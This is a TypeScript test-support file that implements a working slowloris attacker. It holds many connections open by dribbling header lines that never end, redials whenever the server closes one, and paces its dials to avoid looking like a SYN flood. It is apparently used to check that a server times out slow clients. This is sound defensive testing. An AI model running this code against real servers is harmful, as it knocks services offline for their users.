// A slowloris attacker, run as its own process (node dist/e2e/support/slowloris.js '<json options>'): it keeps
// `connections` connections to a server open from one source address, each sending a request's headers a
// line at a time and never the blank line that ends them, and dials again whenever the server closes one.
// It prints one JSON summary line (AttackSummary) when done. Run it under `prlimit --nofile=N:N` so that it
// has descriptors for every connection whatever the caller's limit.
import * as net from 'node:net';
import { monitorEventLoopDelay } from 'node:perf_hooks';

/** What to attack and how. */
export interface AttackOptions {
  host: string;
  port: number;
  /** Source address of every connection (a loopback alias such as 127.0.0.21). */
  from: string;
  connections: number;
  /** Mean time between two header lines on one connection (ms), jittered ±50%. */
  dribbleMs: number;
  /** Wait before dialling again after the server closed a connection (ms). */
  redialMs: number;
  seconds: number;
}

/** What the attacker saw, printed as one JSON line at the end. */
export interface AttackSummary {
  /** Connections dialled, and those the server accepted and kept past the first exchange of packets. */
  dialled: number;
  connected: number;
  /** Connections the server closed after answering 408, and the longest any of them lived (ms). */
  timedOut: number;
  longestTimedOutMs: number;
  /** Connections the server closed without a word (refused at accept, or reset). */
  closedSilently: number;
  /** The most connections open at once, as the attacker counted them. */
  peakOpen: number;
  /** Connections still open when the attack stopped, and the age of the oldest (ms). */
  openAtEnd: number;
  oldestOpenAtEndMs: number;
  /** Status lines the server sent, by line. */
  answers: Record<string, number>;
  /**
   * The attacker's own worst event-loop delay (ms): how late it may have seen a close. Its lifetimes are
   * measured on its own clock, so on a loaded machine a connection the server closed in time can look older
   * by up to this much.
   */
  maxLoopDelayMs: number;
}

/** Runs the attack for options.seconds and resolves with what it saw. */
export async function attack(options: AttackOptions, onFirstRound?: () => void): Promise<AttackSummary> {
  const summary: AttackSummary = { dialled: 0, connected: 0, timedOut: 0, longestTimedOutMs: 0, closedSilently: 0, peakOpen: 0, openAtEnd: 0, oldestOpenAtEndMs: 0, answers: {}, maxLoopDelayMs: 0 };
  const loopDelay = monitorEventLoopDelay({ resolution: 20 });
  loopDelay.enable();
  const open = new Map<net.Socket, number>();
  let stopping = false;
  const jitter = (ms: number) => ms * (0.5 + Math.random());

  const dial = () => {
    if (stopping) return;
    summary.dialled++;
    const socket = net.connect({ host: options.host, port: options.port, localAddress: options.from });
    let answer = '';
    let openedAt = 0;
    let line = 0;
    let timer: NodeJS.Timeout | undefined;
    const dribble = () => {
      timer = setTimeout(() => {
        if (socket.writable) socket.write(`X-Slow-${line++}: ${'a'.repeat(8)}\r\n`);
        dribble();
      }, jitter(options.dribbleMs));
    };
    socket.on('connect', () => {
      openedAt = Date.now();
      summary.connected++;
      open.set(socket, openedAt);
      summary.peakOpen = Math.max(summary.peakOpen, open.size);
      socket.write(`GET /v1/info HTTP/1.1\r\nHost: ${options.host}\r\n`);
      dribble();
    });
    socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearTimeout(timer);
      open.delete(socket);
      if (stopping) return;
      const status = answer.split('\r\n', 1)[0] ?? '';
      if (status !== '') summary.answers[status] = (summary.answers[status] ?? 0) + 1;
      if (/^HTTP\/1\.1 408 /.test(status)) {
        summary.timedOut++;
        summary.longestTimedOutMs = Math.max(summary.longestTimedOutMs, Date.now() - openedAt);
      } else {
        summary.closedSilently++;
      }
      setTimeout(dial, jitter(options.redialMs));
    });
  };

  // Dial in batches, so that the first round does not look like a SYN flood to the kernel.
  for (let index = 0; index < options.connections; index++) {
    dial();
    if (index % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 20));
  }
  onFirstRound?.();
  await new Promise((resolve) => setTimeout(resolve, options.seconds * 1000));
  stopping = true;
  const now = Date.now();
  summary.openAtEnd = open.size;
  summary.oldestOpenAtEndMs = Math.max(0, ...[...open.values()].map((openedAt) => now - openedAt));
  for (const socket of open.keys()) socket.destroy();
  loopDelay.disable();
  summary.maxLoopDelayMs = Math.round(loopDelay.max / 1e6);
  return summary;
}

if (require.main === module) {
  const options = JSON.parse(process.argv[2] ?? '{}') as AttackOptions;
  void attack(options, () => process.stderr.write('first round dialled\n')).then((summary) => {
    process.stdout.write(`${JSON.stringify(summary)}\n`, () => process.exit(0));
  });
}
